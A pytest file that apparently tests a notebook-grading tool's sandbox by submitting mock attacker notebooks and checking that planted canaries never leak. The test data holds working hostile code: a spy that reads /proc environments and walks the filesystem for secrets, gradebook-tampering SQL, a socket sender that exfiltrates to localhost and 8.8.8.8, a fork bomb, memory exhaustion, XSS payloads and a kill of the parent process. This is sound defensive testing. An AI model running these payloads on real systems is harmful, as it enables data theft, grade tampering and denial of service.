"""The attacks of issue 10, each a participant's submission graded through the real
``python -m grading`` commands, on one shared temporary course.

Canary files with random values sit where an attacker would look: in the course folder
(a notes file, and a participant named after a canary in ``participants.csv`` and the
gradebook), in the facilitator's home folder (a fake ``HOME`` for the batch) and in the host's
``/dev/shm`` (where the workers' scratch courses live). A listener on ``127.0.0.1`` waits for
a connection. One hidden test holds a canary too. After the batch, no canary appears in any
output, feedback page, batch record or log, nothing reached the listener, the honest grades are
what they should be, the gradebook holds only what the batch wrote, and no process of the
batch is left.

The same attacks without the sandbox (``--unsafe-no-sandbox``) are what the integrity check
is for: an attacker who knows the course path changes another participant's grade; the batch
fails, names the submission, and ``restore`` puts the gradebook back.
"""

from __future__ import annotations

import html as htmlmod
import json
import os
import re
import secrets
import shutil
import socket
import sqlite3
import subprocess
import threading
import time
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pandas as pd
import pytest

from grading import Course
from grading.feedback import CSP
from tests.grading.conftest import MODEL_ANSWER, run_cli, tiny_notebook

CELL_TIMEOUT = 10  # generous: the attacks must not time out on a busy machine
NOTEBOOK_TIMEOUT = 25
HONEST = {"P01": MODEL_ANSWER, "P02": "def double(x):\n    return abs(2 * x)"}


def hidden_notebook(canary: str) -> nbformat.NotebookNode:
    """The tiny exercise with a hidden test (holding ``canary``) in its 2-point test."""
    nb = tiny_notebook()
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "test-negative":
            cell.source = ('"""Checks double(-1) (2 points)."""\nassert double(-1) == -2\n'
                           "### BEGIN HIDDEN TESTS\n"
                           f'assert double(7) == 14, "{canary}"\n'
                           "### END HIDDEN TESTS")
    return nb


# ---------------------------------------------------------------------- the attackers
SPY = '''
import os
found = []
def grab(path, limit=20000):
    try:
        with open(path, "rb") as handle:
            found.append("== " + path + "\\n" + handle.read(limit).decode("utf-8", "replace"))
    except Exception as error:
        found.append("x " + path + ": " + type(error).__name__)
for path in [COURSE + "/participants.csv", COURSE + "/gradebook.db", COURSE + "/notes.txt",
             HOME + "/secret.txt", SHM + "/secret.txt"]:
    grab(path)
for pid in os.listdir("/proc"):
    if pid.isdigit():
        grab("/proc/" + pid + "/cmdline")
        grab("/proc/" + pid + "/environ")
        try:
            for fd in os.listdir("/proc/" + pid + "/fd"):
                grab(os.readlink("/proc/" + pid + "/fd/" + fd))
        except Exception as error:
            found.append("x fds of " + pid + ": " + type(error).__name__)
for top in ["/dev/shm", "/tmp", "/notebook", os.path.expanduser("~"), "/root", "/home", "/srv",
            "/work", "/var", "/mnt", "/opt"]:
    for root, dirs, files in os.walk(top):
        for name in files:
            if name.endswith((".db", ".csv", ".ipynb", ".txt", ".json", ".py", ".log")):
                grab(os.path.join(root, name), 4000)
        if len(found) > 3000:
            break
found.append("environ: " + repr(dict(os.environ)))
print(" | ".join(item.replace("\\n", " ") for item in found)[:60000])
'''

GRADER = '''
import os, sqlite3
paths = [COURSE + "/gradebook.db"]
for top in ["/dev/shm", "/tmp", "/notebook", "/home", "/root", "/srv", "/work", "/var"]:
    for root, dirs, files in os.walk(top):
        paths += [os.path.join(root, name) for name in files if name.endswith(".db")]
for path in paths:
    try:
        con = sqlite3.connect(path, timeout=5)
        con.execute("UPDATE grade SET auto_score = 0")
        con.commit()
        print("WROTE", path)
    except Exception as error:
        print("x", path, type(error).__name__)
'''

SOURCE = '''
for path in [COURSE + "/source/tiny_hidden/tiny_hidden.ipynb", COURSE + "/notes.txt"]:
    try:
        with open(path, "w") as handle:
            handle.write("{}")
        print("WROTE", path)
    except Exception as error:
        print("x", path, type(error).__name__)
'''

NET = '''
import socket
for host in ["127.0.0.1", "localhost", "10.0.2.2", "8.8.8.8"]:
    try:
        with socket.create_connection((host, PORT), timeout=3) as sock:
            sock.sendall(b"LEAK participants.csv")
        print("SENT to", host)
    except Exception as error:
        print("x", host, type(error).__name__, error)
'''

MEMORY = '''
blocks = []
try:
    blocks.append(b"x" * (400 * 2**20))  # 400 MB really used
    blocks.append(bytearray(1100 * 2**20))  # then 1.1 GB more: 1.5 GB in all
finally:
    print("allocated", len(blocks), "blocks")
'''

PROCESSES = '''
import os, subprocess, sys, time
subprocess.Popen(["sleep", "613"], start_new_session=True)
late = ("import os, time\\nif os.fork(): os._exit(0)\\nos.setsid()\\ntime.sleep(8)\\n"
        "open(%r, 'w').write('late')\\n" % (COURSE + "/late.txt"))
subprocess.Popen([sys.executable, "-c", late], start_new_session=True)
children = 0
try:
    for i in range(300):
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
        children += 1
except OSError as error:
    print("fork stopped after", children, type(error).__name__)
'''

SLOW = "import time\ntime.sleep(9)"  # just under the cell limit

XSS = '''
from IPython.display import HTML, Javascript, Markdown, display
display(HTML("<script>alert('xss-script')</script><b>bold</b>"))
display(HTML("<img src=x onerror=\\"alert('xss-img')\\">"))
display(Markdown("[click](javascript:alert('xss-link')) <svg onload=alert('xss-svg')>"))
display(Javascript("alert('xss-js')"))
print("<script>alert('xss-print')</script>")
'''

KILLER = "import os, signal\n\nos.kill(os.getppid(), signal.SIGKILL)"


class Listener:
    """A TCP server on 127.0.0.1 that records whatever reaches it."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.5)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self.stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(2)
                try:
                    self.received.append(conn.recv(65536) or b"<connected>")
                except OSError:
                    self.received.append(b"<connected>")

    def close(self):
        self.stop = True
        self.thread.join(timeout=5)
        self.sock.close()


def _submission(release: dict, answer: str, extra_cells: list[str] = ()) -> dict:
    nb = json.loads(json.dumps(release))
    for cell in nb["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == "answer":
            cell["source"] = answer
    at = next(i for i, c in enumerate(nb["cells"])
              if c["metadata"].get("nbgrader", {}).get("grade_id") == "answer")
    for offset, code in enumerate(extra_cells, start=1):
        nb["cells"].insert(at + offset, nbformat.v4.new_code_cell(code))
    return nb


def _outputs(notebook: Path) -> str:
    """Every output of every cell (not the cells' code: the graded copy holds the tests)."""
    nb = json.loads(notebook.read_text())
    return json.dumps([c.get("outputs", []) for c in nb["cells"]])


def _answer_outputs(notebook: Path) -> str:
    """The outputs of the cells the participant wrote (not the tests after them)."""
    nb = json.loads(notebook.read_text())
    return json.dumps([c.get("outputs", []) for c in nb["cells"]
                       if not c["metadata"].get("nbgrader", {}).get("grade")])


class _Tags(HTMLParser):
    """Every element of a page with its attributes."""

    def __init__(self):
        super().__init__()
        self.tags: list[tuple[str, dict]] = []
        self.scripts: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        self._in_script = tag == "script"

    def handle_data(self, data):
        if self._in_script:
            self.scripts.append(data)

    def handle_endtag(self, tag):
        self._in_script = False


def _grades(db: Path) -> dict:
    con = sqlite3.connect(db)
    rows = con.execute(
        "SELECT sa.student_id, bc.name, g.auto_score, g.manual_score, g.needs_manual_grade "
        "FROM grade g JOIN base_cell bc ON g.cell_id = bc.id "
        "JOIN submitted_notebook sn ON g.notebook_id = sn.id "
        "JOIN submitted_assignment sa ON sn.assignment_id = sa.id").fetchall()
    con.close()
    return {(r[0], r[1]): r[2:] for r in rows}


def _sandbox_processes() -> list[str]:
    out = subprocess.run(["ps", "-eo", "uid=,args="], capture_output=True, text=True).stdout
    return [line for line in out.splitlines()
            if "sleep 613" in line or int(line.split()[0]) >= 2_000_000_000]


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    base = tmp_path_factory.mktemp("attack")
    canary = {k: f"canary-{k}-{secrets.token_hex(8)}"
              for k in ("course", "name", "email", "home", "shm", "hidden")}
    exercises = base / "exercises" / "tiny_hidden"
    exercises.mkdir(parents=True)
    nbformat.write(hidden_notebook(canary["hidden"]), exercises / "tiny_hidden.ipynb")
    course_dir = base / "course"
    result = run_cli("init", "--course", str(course_dir), "--timeout", str(CELL_TIMEOUT),
                     "--notebook-timeout", str(NOTEBOOK_TIMEOUT))
    assert result.returncode == 0, result.stderr
    course = Course.open(course_dir)
    for name in course.assignments():  # the repository's exercises are not needed here
        shutil.rmtree(course.root / "source" / name)
    course.add_source(exercises)
    (course.root / "notes.txt").write_text(canary["course"])
    attackers = {"A1": SPY, "A2": GRADER, "A3": SOURCE, "A4": NET, "A5": MEMORY,
                 "A6": PROCESSES, "A7": "def double(x):\n    return 2 * x", "A8": XSS,
                 "A9": KILLER}
    people = base / "people.csv"
    people.write_text(
        "id,first_name,last_name,email,gender,cohort\n"
        f"P01,{canary['name']},Person,{canary['email']}@example.org,woman,A\n"
        "P02,Test,Person Two,,man,A\n" + "".join(f"{a},Test,Attacker,,woman,A\n"
                                                 for a in attackers))
    assert run_cli("participants", "add", str(people), "--course", str(course.root)
                   ).returncode == 0
    assert run_cli("generate", "tiny_hidden", "--course", str(course.root)).returncode == 0

    home = base / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / "secret.txt").write_text(canary["home"])
    (home / ".ssh" / "id_rsa").write_text(canary["home"])
    shm = Path("/dev/shm") / f"homeward-test-{secrets.token_hex(4)}"
    shm.mkdir()
    (shm / "secret.txt").write_text(canary["shm"])
    shm.chmod(0o755)
    listener = Listener()
    known = (f"COURSE = {str(course.root)!r}\nHOME = {str(home)!r}\nSHM = {str(shm)!r}\n"
             f"PORT = {listener.port}\n")

    release = json.loads((course.root / "release" / "tiny_hidden" / "tiny_hidden.ipynb"
                          ).read_text())
    drafts = base / "drafts"
    drafts.mkdir()
    submissions = {pid: _submission(release, answer) for pid, answer in HONEST.items()}
    for pid, code in attackers.items():
        extra = [SLOW] * 20 if pid == "A7" else []
        answer = code if pid == "A7" else known + code + "\n\ndef double(x):\n    return 2 * x"
        submissions[pid] = _submission(release, answer, extra)
    edited = _submission(release, MODEL_ANSWER)
    for cell in edited["cells"]:  # a 2-point test made to count 20
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == "test-negative":
            cell["metadata"]["nbgrader"]["points"] = 20
    submissions["A10"] = edited
    with course.gradebook() as gb:
        gb.update_or_create_student("A10")
    for pid, nb in submissions.items():
        path = drafts / f"{pid}.ipynb"
        path.write_text(json.dumps(nb))
        course.submit_file(pid, "tiny_hidden", path)

    try:
        start = time.monotonic()
        graded = run_cli("autograde", "--course", str(course.root), "--workers", "2",
                         "--no-progress", env_extra={"HOME": str(home)})
        seconds = time.monotonic() - start
        right_after = _grades(course.gradebook_path)
        feedback = run_cli("feedback", "--course", str(course.root),
                           env_extra={"HOME": str(home)})
        export = run_cli("export", str(base / "grades.csv"), "--course", str(course.root))
        time.sleep(10)  # the detached attacker's late write would land now
        yield {"course": course, "canary": canary, "graded": graded, "seconds": seconds,
               "feedback": feedback, "export": export, "listener": listener, "base": base,
               "right_after": right_after, "later": _grades(course.gradebook_path),
               "release": release, "known": known, "processes": _sandbox_processes()}
    finally:
        listener.close()
        shutil.rmtree(shm, ignore_errors=True)


def _record(attacked) -> pd.DataFrame:
    records = sorted((attacked["course"].root / "batches").glob("*.csv"))
    return pd.read_csv(records[-1], dtype=str, keep_default_na=False).set_index("participant")


def _graded(attacked, pid: str) -> Path:
    return attacked["course"].root / "autograded" / pid / "tiny_hidden" / "tiny_hidden.ipynb"


def test_the_batch_ran_sandboxed_and_reported_the_attackers(attacked):
    graded = attacked["graded"]
    assert graded.returncode == 0, graded.stdout + graded.stderr
    assert "BATCH FAILED" not in graded.stdout
    lines = graded.stdout.splitlines()
    assert lines.pop(0).startswith("Grading with 2 workers"), graded.stdout  # as it starts
    assert lines[0].startswith("8 graded, 4 broken, 0 missing in ")
    record = _record(attacked)
    assert record.loc["A5", "status"] == "broken"
    assert record.loc["A5", "reason"] == "used more memory than allowed in answer"
    assert record.loc["A6", "status"] == "broken"
    assert "process(es) running after it finished" in record.loc["A6", "reason"]
    assert record.loc["A7", "status"] == "broken"
    assert "the whole notebook took longer than its time limit" in record.loc["A7", "reason"]
    assert record.loc["A10", "reason"] == "cell 'test-negative': points changed"
    for pid in ("A1", "A2", "A3", "A4", "A8", "A9"):
        assert record.loc[pid, "status"] == "graded", (pid, record.loc[pid, "reason"])


def test_nothing_outside_the_submission_was_read(attacked):
    canary, root = attacked["canary"], attacked["course"].root
    spy = _outputs(_graded(attacked, "A1"))
    # the spy ran and tried: it saw only its own sandbox
    assert "x " + str(root) + "/participants.csv" in spy and "== /proc/1/cmdline" in spy
    assert str(root) not in spy.replace("x " + str(root), "")  # only in its own failed tries
    texts = [attacked["graded"].stdout, attacked["graded"].stderr, attacked["feedback"].stdout]
    for pid in ("A1", "A2", "A3", "A4", "A5", "A6", "A8", "A9"):
        texts.append(_answer_outputs(_graded(attacked, pid)))
    pages = [p.read_text(errors="replace") for p in (root / "feedback").rglob("*.html")]
    texts += pages
    texts += [p.read_text(errors="replace") for p in (root / "batches").iterdir()]
    texts.append(b"".join(attacked["listener"].received).decode(errors="replace"))
    everything = "\n".join(texts)
    for name, value in canary.items():
        assert value not in everything, f"the {name} canary leaked"
    for pid in ("A1", "A2", "A3", "A4", "A5", "A6", "A8", "A9"):  # whole graded copies
        outputs = _outputs(_graded(attacked, pid))
        assert not [k for k, v in canary.items() if k != "hidden" and v in outputs]
    # the hidden test is in the facilitator's graded copy (P02 failed it), never in a page
    assert canary["hidden"] in _outputs(_graded(attacked, "P02"))
    assert len(pages) == 11


def test_nothing_reached_a_listener_on_the_host(attacked):
    assert attacked["listener"].received == []
    net = _outputs(_graded(attacked, "A4"))
    assert "SENT" not in net and "x 127.0.0.1" in net


def test_no_other_grade_changed_and_nothing_changed_after_the_batch(attacked):
    grades = attacked["right_after"]
    assert grades[("P01", "test-positive")][0] == 1.0
    assert grades[("P01", "test-negative")][0] == 2.0  # the hidden test passed too
    assert grades[("P02", "test-negative")][0] == 0.0  # abs() fails on -1
    assert "WROTE" not in _outputs(_graded(attacked, "A2"))
    assert attacked["later"] == grades
    summary = sorted((attacked["course"].root / "batches").glob("*.json"))[-1]
    data = json.loads(summary.read_text())
    assert data["failed"] is False and data["integrity"] == [] and data["sandbox"] is True


def test_source_and_course_files_cannot_be_changed(attacked):
    course = attacked["course"]
    assert course.source_changes("tiny_hidden") == []
    assert (course.root / "notes.txt").read_text() == attacked["canary"]["course"]
    assert "WROTE" not in _outputs(_graded(attacked, "A3"))
    assert not (course.root / "late.txt").exists()


def test_no_process_outlives_the_batch(attacked):
    assert attacked["processes"] == []
    out = _outputs(_graded(attacked, "A6"))
    assert "fork stopped after" in out
    stopped_after = int(out.split("fork stopped after ")[1].split()[0])
    assert stopped_after < 64  # the process cap


def test_memory_stays_under_the_cap(attacked):
    out = _outputs(_graded(attacked, "A5"))
    assert "MemoryError" in out
    assert int(out.split("allocated ")[1].split()[0]) == 1  # the 1.5 GB never came
    peak = float(_record(attacked).loc["A5", "peak_mb"])
    assert 400 < peak < 1024


def test_many_slow_cells_cannot_hold_a_worker(attacked):
    record = _record(attacked)
    assert float(record.loc["A7", "seconds"]) < NOTEBOOK_TIMEOUT + 30
    assert float(record.loc["A7", "score"]) == 0.0  # the tests after the slow cells never ran
    assert attacked["seconds"] < 240


def test_a_notebook_cannot_kill_its_worker(attacked):
    assert _record(attacked).loc["A9", "status"] == "graded"
    assert "PermissionError" in _outputs(_graded(attacked, "A9"))


def test_feedback_has_no_hidden_tests_and_no_scripts(attacked):
    root = attacked["course"].root
    assert attacked["feedback"].returncode == 0, attacked["feedback"].stderr
    html = (root / "feedback" / "P02" / "tiny_hidden" / "tiny_hidden.html").read_text()
    page = htmlmod.unescape(re.sub(r"<[^>]+>", "", html))
    assert "assert double(-1) == -2" in page  # the visible test is shown
    assert "HIDDEN TESTS" not in page and "double(7)" not in page
    assert "AssertionError" in page  # the failed hidden test is named, not shown
    xss = (root / "feedback" / "A8" / "tiny_hidden" / "tiny_hidden.html").read_text()
    tags = _Tags()
    tags.feed(xss)
    assert ("meta", {"http-equiv": "Content-Security-Policy", "content": CSP}) in tags.tags
    assert not [s for s in tags.scripts if "alert" in s]
    assert not [(t, a) for t, a in tags.tags if any(k.startswith("on") for k in a)]
    assert not [(t, a) for t, a in tags.tags
                if "javascript:" in (a.get("href") or "") + (a.get("src") or "")]
    assert ("b", {}) in tags.tags  # the harmless part of the output is kept


@pytest.mark.browser
def test_feedback_page_runs_no_script_in_chromium(attacked, page, artifacts):
    dialogs, console = [], []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("console", lambda message: console.append(message.text))
    path = attacked["course"].root / "feedback" / "A8" / "tiny_hidden" / "tiny_hidden.html"
    page.goto(path.as_uri())
    page.wait_for_load_state("load")
    page.wait_for_timeout(1500)
    for link in page.locator("a").all():
        if "click" in (link.text_content() or ""):
            link.click()
    page.wait_for_timeout(500)
    page.screenshot(path=str(artifacts / "feedback-xss-1280.png"), full_page=True)
    assert dialogs == []
    assert not [m for m in console if "xss" in m]
    assert page.locator("text=bold").count() >= 1  # the harmless part of the output is shown
    assert page.evaluate("typeof window.xssRan") == "undefined"


def test_exports_and_records_are_the_facilitators_only(attacked):
    import stat

    course = attacked["course"]
    assert attacked["export"].returncode == 0
    for path in [attacked["base"] / "grades.csv", course.participants_path,
                 course.gradebook_path, *course.batches_dir.iterdir(),
                 *course.backups_dir.iterdir()]:
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
    assert stat.S_IMODE(course.root.stat().st_mode) == 0o700


# ---------------------------------------------------------------------- without the sandbox
TAMPER = '''
import sqlite3
con = sqlite3.connect(COURSE + "/gradebook.db", timeout=30)
con.execute(
    "UPDATE grade SET auto_score = 0 WHERE notebook_id IN (SELECT sn.id FROM "
    "submitted_notebook sn JOIN submitted_assignment sa ON sn.assignment_id = sa.id "
    "WHERE sa.student_id = 'P01')")
con.commit()
con.close()
'''


def test_without_the_sandbox_the_integrity_check_catches_a_changed_grade(attacked):
    course, release, known = attacked["course"], attacked["release"], attacked["known"]
    drafts = attacked["base"] / "unsafe"
    drafts.mkdir()
    with course.gradebook() as gb:
        for pid in ("U1", "U2"):
            gb.update_or_create_student(pid)
    for pid, code in (("U1", known + TAMPER), ("U2", KILLER)):
        path = drafts / f"{pid}.ipynb"
        path.write_text(json.dumps(_submission(release, code)))
        course.submit_file(pid, "tiny_hidden", path)
    before = _grades(course.gradebook_path)
    result = run_cli("autograde", "--course", str(course.root), "--unsafe-no-sandbox",
                     "--participant", "U1", "--participant", "U2", "--workers", "1",
                     "--no-progress")
    assert result.returncode == 1, result.stdout + result.stderr
    assert "WARNING: --unsafe-no-sandbox" in result.stderr
    out = result.stdout
    assert "BATCH FAILED: the gradebook holds changes this batch did not make:" in out
    assert "changed: grade of cell 'test-positive' in tiny_hidden for P01: auto_score 1.0 -> " \
           "0.0" in out
    assert "SUSPECT U1 tiny_hidden: being graded when the change happened" in out
    assert f"python -m grading restore --course {course.root}" in out
    # the notebook that killed its worker is broken; the batch went on
    assert "BROKEN U2 tiny_hidden: grading stopped (worker exited with code -9" in out
    assert _grades(course.gradebook_path)[("P01", "test-positive")][0] == 0.0

    restored = run_cli("restore", "--course", str(course.root))
    assert restored.returncode == 0, restored.stderr
    assert restored.stdout.startswith("Gradebook put back from ")
    assert _grades(course.gradebook_path) == before
    again = run_cli("restore", "--course", str(course.root))
    assert again.returncode == 2 and "no failed batch to undo" in again.stderr


# ---------------------------------------------------------------------- the sandbox alone
def _run_in_sandbox(tmp_path, cells: list[str], timeout: int = 30, **settings) -> list[str]:
    """Run ``cells`` in a sandboxed kernel (nbclient, as nbgrader's Execute does); return
    each cell's text output."""
    from nbclient import NotebookClient

    from grading.sandbox import SandboxKernelManager

    nb = nbformat.v4.new_notebook()
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3",
                                 "language": "python"}
    nb.cells = [nbformat.v4.new_code_cell(code) for code in cells]
    folder = tmp_path / "notebook"
    folder.mkdir()
    (folder / "data.csv").write_text("month,amount\n1,500\n")
    (folder / "secret.ipynb").write_text("{}")  # a notebook next to it is never copied in
    (folder / "link.csv").symlink_to(tmp_path / "outside.txt")
    (tmp_path / "outside.txt").write_text("outside")
    client = NotebookClient(nb, timeout=timeout, allow_errors=True,
                            kernel_manager_class=SandboxKernelManager,
                            resources={"metadata": {"path": str(folder)}})
    for key, value in settings.items():
        client.config.SandboxKernelManager[key] = value
    client.execute()
    out = []
    for cell in nb.cells:
        out.append("".join(o.get("text", "") or f"{o.get('ename')}: {o.get('evalue')}"
                           for o in cell.outputs))
    return out


WHO = ["import os; print(os.getuid(), os.getcwd(), sorted(os.listdir('.')))",
       "print(open('data.csv').read().splitlines()[1])",
       "import socket\ntry:\n    socket.create_connection(('127.0.0.1', 22), timeout=2)\n"
       "except OSError as e:\n    print(type(e).__name__)",
       "print(sorted(p for p in os.listdir('/proc') if p.isdigit()))"]


def test_as_root_the_kernel_runs_as_a_user_of_its_own(tmp_path):
    if os.geteuid() != 0:
        pytest.skip("grading runs as an ordinary user here: see the user-namespace test")
    from grading.sandbox import DEFAULT_UID_BASE, batch_slot

    who, data, net, procs = _run_in_sandbox(tmp_path, WHO, slot=batch_slot(7))
    assert who.startswith(f"{DEFAULT_UID_BASE + batch_slot(7)} /notebook ['data.csv']")
    assert data == "1,500\n" and net == "ConnectionRefusedError\n"
    assert procs == "['1', '2']\n"  # bubblewrap's init and the kernel: nothing of the host


def test_two_grading_processes_at_once_never_share_a_sandbox_user():
    """Run as root, each sandbox is a user of its own; the process cap counts that user's
    processes and the clean-up kills them all. Two batches at once (two courses on one
    machine, test runs side by side) each numbered their workers 0, 1 ... and so shared users:
    each counted and killed the other's kernels (seen here as "Kernel died before replying to
    kernel_info" while other grading ran)."""
    from grading.sandbox import SandboxKernelManager, batch_slot

    one, other = ({batch_slot(n, pid=pid) for n in range(8)} for pid in (4242, 4243))
    assert len(one) == len(other) == 8 and not one & other
    assert batch_slot(0) != batch_slot(0, pid=os.getpid() + 1)
    assert SandboxKernelManager().slot == batch_slot(63)  # plain nbgrader: this process's own
    assert SandboxKernelManager().slot != 0


def test_in_a_user_namespace_the_kernel_is_user_65534(tmp_path):
    """What an ordinary (not root) facilitator's grading gets; forced here when run as root."""
    who, data, net, procs = _run_in_sandbox(tmp_path, WHO, user_namespace=True)
    assert who.startswith("65534 /notebook ['data.csv']")
    assert data == "1,500\n" and net == "ConnectionRefusedError\n"
    assert procs == "['1', '2']\n"


def test_a_busy_loop_is_stopped_by_the_processor_time_cap(tmp_path):
    """A cell that keeps the processor busy dies at the sandbox's processor-time cap (here
    2 s), long before the 30 processor seconds it asks for; the wall-clock cell timeout is
    generous so that only the cap can stop it, on a busy machine too."""
    from nbclient.exceptions import DeadKernelError

    spin = ("import time\nstart = time.process_time()\n"
            "while time.process_time() - start < 30:\n    pass\nprint('spun for 30 s')")
    with pytest.raises(DeadKernelError):
        _run_in_sandbox(tmp_path, [spin], timeout=600, cpu_seconds=2)


def test_a_big_file_is_refused_at_the_file_size_cap(tmp_path):
    """Writing more than the file cap (here 1 MB) fails with an error the notebook sees, in
    its own folder and in /tmp; a small file is fine."""
    write = ("try:\n    with open({path!r}, 'wb') as f:\n        f.write(b'x' * {size})\n"
             "    print('wrote', {size})\nexcept OSError as error:\n"
             "    print('refused', error.errno)")
    cells = [write.format(path="/tmp/small.bin", size=1000),
             write.format(path="/notebook/big.bin", size=3 * 2**20),
             write.format(path="/tmp/big.bin", size=3 * 2**20)]
    small, big_here, big_tmp = _run_in_sandbox(tmp_path, cells, file_mb=1)
    assert big_here.startswith("refused") and big_tmp.startswith("refused")
    assert small == "wrote 1000\n"


def test_grading_refuses_to_start_without_bubblewrap(tmp_path):
    empty = tmp_path / "bin"
    empty.mkdir()
    course = Course.create(tmp_path / "course", exercises=tmp_path)
    result = run_cli("autograde", "--course", str(course.root), "--no-progress",
                     env_extra={"PATH": str(empty)})
    assert result.returncode == 2
    assert result.stderr.startswith("error: grading refuses to start: bubblewrap (bwrap) is not "
                                    "installed")
    assert "--unsafe-no-sandbox" in result.stderr and "Traceback" not in result.stderr
    assert not (course.root / "backups").exists()  # nothing ran, nothing was copied


@pytest.mark.browser
def test_a_failed_hidden_test_reads_as_its_message_on_a_phone(attacked, phone_page, artifacts):
    """P02 failed the test cell that holds the hidden test: the page names the error, and shows
    the visible part of the cell only, on a phone too."""
    path = attacked["course"].root / "feedback" / "P02" / "tiny_hidden" / "tiny_hidden.html"
    phone_page.goto(path.as_uri())
    phone_page.wait_for_load_state("load")
    phone_page.screenshot(path=str(artifacts / "feedback-hidden-390.png"), full_page=True)
    text = phone_page.locator("body").inner_text()
    assert "AssertionError" in text and "double(7)" not in text
    assert attacked["canary"]["hidden"] not in text
